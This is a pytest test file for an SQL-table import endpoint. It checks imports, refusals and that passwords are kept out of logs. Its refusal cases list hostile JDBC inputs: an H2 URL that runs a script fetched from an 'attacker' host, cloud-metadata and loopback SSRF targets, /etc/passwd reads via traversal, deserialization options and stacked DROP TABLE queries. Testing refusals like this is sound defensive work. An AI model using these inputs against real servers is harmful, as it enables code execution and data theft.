"""POST /99/ImportSQLTable: from SQLite and PostgreSQL into frames, what is refused, and that no password gets out."""

from __future__ import annotations

import json
import sqlite3
import sys
from pathlib import Path
from typing import Any

import pytest
from server_client import Client, Starter

import artesian as h2o
from artesian.client import session

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from postgresql_cluster import PASSWORD, USER, postgresql_cluster

ROUTE = "/99/ImportSQLTable"
SECRET = "s3cret-word"
ENDLESS = "SELECT count(*) FROM (WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n) SELECT x FROM n)"


@pytest.fixture(scope="session")
def shop(server: Client, shared_folder: Path) -> str:
    """The URL of a SQLite file with one table, `cars`, of 1001 rows."""
    path = shared_folder / "shop.db"
    with sqlite3.connect(path) as connection:
        connection.execute("CREATE TABLE cars (id INTEGER, price REAL, name TEXT, sold DATE)")
        rows = [(i, i / 2, f"car {i}" if i % 2 else None, "2024-02-29") for i in range(1001)]
        connection.executemany("INSERT INTO cars VALUES (?, ?, ?, ?)", rows)
    connection.close()
    return f"jdbc:sqlite:{path}"


def request(url: str, **more: Any) -> dict[str, Any]:
    return {"connection_url": url, "username": "", "password": "", **more}


def test_a_table_as_the_official_client_asks_for_it(server: Client, shop: str) -> None:
    job = server.post(
        ROUTE, **request(shop, table="cars", columns="id, sold, name", fetch_mode="DISTRIBUTED", num_chunks_hint="4")
    )
    assert (job["__meta"]["schema_name"], job["description"]) == ("JobV3", "Import SQL Table")
    ended = server.wait(job)
    assert (ended["status"], ended["progress"]) == ("DONE", 1.0)
    assert ended["dest"]["name"].startswith("cars_") and ended["dest"]["name"].endswith("_sql_to_hex")
    frame = server.get(f"/3/Frames/{ended['dest']['name']}", row_count=3)["frames"][0]
    assert frame["rows"] == 1001
    columns = {column["label"]: column for column in frame["columns"]}
    assert {label: column["type"] for label, column in columns.items()} == {
        "id": "int",
        "sold": "time",
        "name": "string",
    }
    assert columns["name"]["string_data"] == [None, "car 1", None]
    assert columns["sold"]["data"] == [1_709_164_800_000] * 3


def test_two_imports_of_a_table_are_two_frames(server: Client, shop: str) -> None:
    names = {server.wait(server.post(ROUTE, **request(shop, table="cars")))["dest"]["name"] for _ in range(2)}
    assert len(names) == 2


def test_through_the_python_api(server: Client, shop: str) -> None:
    h2o.connect(url=server.url, verbose=False)
    try:
        query = "SELECT max(price) AS dearest FROM cars"
        assert h2o.import_sql_select(shop, query, "", "", use_temp_table=True, temp_table_name="t")[0, 0] == 500
        assert h2o.import_sql_table(shop, "cars", "", "", columns=["price"]).names == ["price"]
    finally:
        connection = h2o.connection()
        assert connection is not None
        connection.close()
        session._current = None


@pytest.mark.parametrize(
    ("wrong", "status", "said"),
    [
        ({"connection_url": "jdbc:postgresql://10.0.0.1:5432/d?socketFactory=x"}, 400, "option 'socketFactory'"),
        ({"connection_url": f"jdbc:postgresql://u:{SECRET}@10.0.0.1:5432/d"}, 400, "carries a user"),
        ({"connection_url": "jdbc:postgresql://127.0.0.1:5432/d"}, 403, "not public"),
        ({"connection_url": "jdbc:postgresql://169.254.169.254/d"}, 403, "not public"),
        ({"connection_url": "jdbc:mysql://127.0.0.1/d?autoDeserialize=true"}, 501, "'mysql' is not offered"),
        ({"connection_url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://attacker/x.sql'"}, 501, "'h2' is not offered"),
        ({"connection_url": "jdbc:sqlite:/etc/passwd"}, 403, "may not be read"),
        ({"connection_url": "jdbc:sqlite:../../etc/passwd"}, 403, "may not be read"),
        ({"connection_url": "jdbc:sqlite:shop.db?mode=rwc"}, 400, "option 'mode'"),
        ({"connection_url": ""}, 400, "must be jdbc:"),
        ({"table": "", "select_query": ""}, 400, "either a 'table' or a 'select_query'"),
        ({"select_query": "SELECT 1"}, 400, "either a 'table' or a 'select_query'"),
        ({"table": "", "select_query": "DROP TABLE cars"}, 400, "one SELECT"),
        ({"fetch_mode": "PARALLEL"}, 412, "SINGLE or DISTRIBUTED"),
        ({"use_temp_table": "perhaps"}, 412, "true or false"),
        ({"num_chunks_hint": "-1"}, 400, "whole number above 0"),
        ({"socketFactory": "x"}, 412, "no parameter 'socketFactory'"),
    ],
)
def test_what_is_refused_at_once(server: Client, shop: str, wrong: dict[str, Any], status: int, said: str) -> None:
    refused = server.call("POST", ROUTE, request(shop, table="cars") | {"password": SECRET} | wrong)
    assert (refused.status, said in refused.json["msg"]) == (status, True), refused.json["msg"]
    assert SECRET not in refused.content.decode()


def test_user_and_password_are_required(server: Client, shop: str) -> None:
    for name in ("username", "password", "connection_url"):
        given = request(shop, table="cars")
        del given[name]
        refused = server.call("POST", ROUTE, given)
        assert (refused.status, name in refused.json["msg"]) == (412, True)


def test_what_the_database_refuses_fails_the_job(server: Client, shop: str) -> None:
    ended = server.wait(server.post(ROUTE, **request(shop, table="vans")))
    assert (ended["status"], "no table 'vans'" in ended["exception"]) == ("FAILED", True)
    ended = server.wait(server.post(ROUTE, **request(shop, select_query="SELECT 1; DROP TABLE cars")))
    assert (ended["status"], "more than one statement" in ended["exception"]) == ("FAILED", True)


def test_an_endless_query_is_cancelled(server: Client, shop: str) -> None:
    job = server.post(ROUTE, **request(shop, select_query=ENDLESS))
    server.post(f"/3/Jobs/{job['key']['name']}/cancel")
    assert server.wait(job, 10)["status"] == "CANCELLED"


def test_drivers_and_hosts_are_settings(start_server: Starter) -> None:
    server = start_server("--sql-drivers", "sqlite", "--sql-hosts", "127.0.0.1")
    refused = server.call("POST", ROUTE, request("jdbc:postgresql://127.0.0.1:5432/d", table="x"))
    assert (refused.status, "'sql_drivers'" in refused.json["msg"]) == (403, True)


def test_postgresql_and_its_password(start_server: Starter) -> None:
    with postgresql_cluster() as cluster:
        with cluster.connect() as connection:
            connection.execute("CREATE TABLE cars AS SELECT x, 'car ' || x AS name FROM generate_series(1, 120000) x")
        server = start_server("--sql-hosts", "127.0.0.1", "--log-level", "DEBUG")
        asked = {"connection_url": cluster.url, "username": USER, "password": PASSWORD}
        ended = server.wait(server.post(ROUTE, **asked, table="public.cars"))
        assert ended["status"] == "DONE", ended
        frame = server.get(f"/3/Frames/{ended['dest']['name']}", row_count=2)["frames"][0]
        assert (frame["rows"], frame["columns"][1]["string_data"]) == (120_000, ["car 1", "car 2"])
        ended = server.wait(server.post(ROUTE, **asked, select_query="SELECT x FROM cars WHERE x % 2 = 0 ORDER BY x"))
        assert ended["status"] == "DONE", ended

        failed = server.wait(server.post(ROUTE, **asked | {"password": SECRET}, table="cars"))
        assert failed["status"] == "FAILED" and "password authentication failed" in failed["exception"]
        told = json.dumps(server.get("/3/Jobs")) + server.call("GET", "/3/Logs/download/LOG").content.decode()
        assert server.process is not None
        for secret in (SECRET, PASSWORD):
            assert secret not in told and json.dumps(secret)[1:-1] not in told
